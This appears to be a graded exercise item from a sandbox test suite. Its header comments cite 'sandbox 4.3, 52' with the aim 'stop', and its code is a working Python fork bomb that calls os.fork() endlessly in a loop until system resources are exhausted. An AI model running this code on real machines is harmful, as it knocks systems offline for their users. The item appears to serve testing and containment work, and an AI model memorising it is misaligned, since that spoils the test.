# Every process makes two more.
# from: sandbox 4.3, 52
# aims: stop
# outcome: graded
# score: at most 7
# others: right
# needs: sandbox

# %% exercise="weigh"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
